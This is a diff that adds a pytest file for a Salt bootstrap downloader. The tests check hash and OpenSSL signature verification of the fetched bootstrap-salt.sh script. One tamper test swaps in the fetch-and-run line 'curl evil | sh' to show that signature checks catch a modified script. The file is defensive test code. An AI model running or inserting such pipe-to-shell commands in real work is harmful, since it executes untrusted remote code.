@@ -0,0 +1,141 @@
+# pylint: disable=C0111
+import asyncio
+import hashlib
+import shutil
+import subprocess
+
+import pytest
+
+from kickstart_salt import KickstartSalt
+from kickstart_salt_async import AsyncKickstartSalt
+from kickstart_salt_bundle import BootstrapBundle
+from kickstart_salt_download import BootstrapSaltCache, BootstrapSaltVerifier
+from kickstart_salt_peer import Peers, PeerServer
+from kickstart_salt_standin import MirrorStandInServer
+
+SCRIPT = b"#!/bin/sh\necho bootstrapped\n"
+EXPECTED_HASHES = {name: hashlib.new(name, SCRIPT).hexdigest()
+                   for name in ("sha512", "sha3_256", "blake2b")}
+ALL_DIGESTS = dict(EXPECTED_HASHES, sha256=hashlib.sha256(SCRIPT).hexdigest())
+
+@pytest.fixture
+def no_rereads(monkeypatch):
+    '''Fails any verification which reads the script back from disk'''
+    def digests(self, file_path):
+        raise AssertionError("{0} was read again".format(file_path))
+    monkeypatch.setattr(BootstrapSaltVerifier, "digests", digests)
+
+@pytest.fixture
+def script():
+    return SCRIPT
+
+@pytest.fixture
+def kwargs(kwargs):
+    kwargs['bootstrap_salt_expected_hashes'] = EXPECTED_HASHES
+    return kwargs
+
+def test_verify_uses_digests_computed_while_downloading(kwargs, no_rereads):
+    assert KickstartSalt(**kwargs).bootstrap_digests == ALL_DIGESTS
+
+def test_verify_uses_digests_computed_while_downloading_async(kwargs, no_rereads):
+    # The asyncio client only speaks http.
+    mirror = MirrorStandInServer({'bootstrap-salt.sh': SCRIPT}).start()
+    try:
+        kwargs['bootstrap_salt_download_url'] = mirror.url + "/bootstrap-salt.sh"
+        engine = AsyncKickstartSalt(**kwargs)
+        asyncio.run(engine.run())
+        assert engine.bootstrap_digests == ALL_DIGESTS
+    finally:
+        mirror.stop()
+
+def test_digests_from_the_cache(kwargs, tmp_path, no_rereads):
+    cache = BootstrapSaltCache(str(tmp_path / "cache"))
+    cache.store("https://example.com/bootstrap-salt.sh", str(tmp_path / "mirror.sh"), "sha256")
+    digests = {}
+    assert KickstartSalt.download_salt("https://example.com/bootstrap-salt.sh",
+                                       str(tmp_path / "cached.sh"), cache=cache,
+                                       hash_type="sha256",
+                                       expected_hash=ALL_DIGESTS['sha256'],
+                                       hash_types=sorted(EXPECTED_HASHES), digests=digests)
+    assert digests == ALL_DIGESTS
+
+def test_digests_from_the_bundle(kwargs, tmp_path, no_rereads):
+    BootstrapBundle.build(str(tmp_path / "bundle.tar.gz"), {'kwargs': {}},
+                          str(tmp_path / "mirror.sh"))
+    BootstrapBundle.open(str(tmp_path / "bundle.tar.gz"), extract_dir=str(tmp_path / "bundle"))
+    kwargs['bootstrap_salt_download_url'] = (tmp_path / "no-mirror.sh").as_uri()
+    kwargs['kickstart_salt_bundle'] = str(tmp_path / "bundle")
+    assert KickstartSalt(**kwargs).bootstrap_digests == ALL_DIGESTS
+
+def test_digests_from_a_peer(tmp_path):
+    (tmp_path / "a.sh").write_bytes(SCRIPT)
+    peer = PeerServer(files=[str(tmp_path / "a.sh")], host="127.0.0.1", port=0).start()
+    try:
+        digests = {}
+        assert Peers(["127.0.0.1:{0}".format(peer.server.server_address[1])]).fetch(
+            str(tmp_path / "b.sh"), "sha256", ALL_DIGESTS['sha256'],
+            hash_types=sorted(EXPECTED_HASHES), digests=digests)
+        assert digests == ALL_DIGESTS
+    finally:
+        peer.stop()
+
+def test_mismatch_is_still_caught(kwargs, no_rereads):
+    kwargs['bootstrap_salt_expected_hashes'] = dict(EXPECTED_HASHES, sha512="0" * 128)
+    with pytest.raises(SystemExit):
+        KickstartSalt(**kwargs)
+
+def test_missing_digests_are_computed(tmp_path):
+    (tmp_path / "a.sh").write_bytes(SCRIPT)
+    result = BootstrapSaltVerifier(expected_hashes=EXPECTED_HASHES).verify(
+        str(tmp_path / "a.sh"), digests={'sha512': EXPECTED_HASHES['sha512']})
+    assert result['ok']
+    assert result['digests'] == EXPECTED_HASHES
+    assert result['size'] == len(SCRIPT)
+
+@pytest.fixture
+def keys(tmp_path):
+    '''Returns a function which signs data, and the paths of two public keys'''
+    if shutil.which("openssl") is None:
+        pytest.skip("openssl isn't installed")
+    for name in ("signer", "stranger"):
+        subprocess.run(["openssl", "genpkey", "-algorithm", "EC",
+                        "-pkeyopt", "ec_paramgen_curve:P-256",
+                        "-out", str(tmp_path / (name + ".key"))], check=True)
+        subprocess.run(["openssl", "pkey", "-pubout", "-in", str(tmp_path / (name + ".key")),
+                        "-out", str(tmp_path / (name + ".pub"))], check=True)
+
+    def sign(data):
+        (tmp_path / "signed").write_bytes(data)
+        subprocess.run(["openssl", "dgst", "-sha256", "-sign", str(tmp_path / "signer.key"),
+                        "-out", str(tmp_path / "bootstrap-salt.sh.sig"),
+                        str(tmp_path / "signed")], check=True)
+        return (tmp_path / "bootstrap-salt.sh.sig").as_uri()
+    return sign, str(tmp_path / "signer.pub"), str(tmp_path / "stranger.pub")
+
+def signed_kwargs(kwargs, keys, served=SCRIPT, signed=SCRIPT, key="signer"):
+    sign, signer, stranger = keys
+    with open(kwargs['bootstrap_salt_download_url'][len("file://"):], 'wb') as f:
+        f.write(served)
+    kwargs.update(bootstrap_salt_expected_hash=hashlib.sha256(served).hexdigest(),
+                  bootstrap_salt_expected_hashes={},
+                  bootstrap_salt_signature_url=sign(signed),
+                  bootstrap_salt_public_key_path=signer if key == "signer" else stranger)
+    return kwargs
+
+def test_good_signature(kwargs, keys, no_rereads):
+    engine = KickstartSalt(**signed_kwargs(kwargs, keys))
+    download = [span for span in engine.report.spans if span['phase'] == "download"][0]
+    assert engine.bootstrap_digests['sha256'] == ALL_DIGESTS['sha256']
+    assert download['verification']['signature'] == "ok"
+
+def test_tampered_script_fails_the_signature(kwargs, keys, capsys):
+    # Even with the pinned digest swapped for the tampered script's.
+    tampered = SCRIPT.replace(b"echo bootstrapped", b"curl evil | sh")
+    with pytest.raises(SystemExit):
+        KickstartSalt(**signed_kwargs(kwargs, keys, served=tampered))
+    assert '"signature": "failed"' in capsys.readouterr().out
+
+def test_wrong_key_fails_the_signature(kwargs, keys, capsys):
+    with pytest.raises(SystemExit):
+        KickstartSalt(**signed_kwargs(kwargs, keys, key="stranger"))
+    assert '"signature": "failed"' in capsys.readouterr().out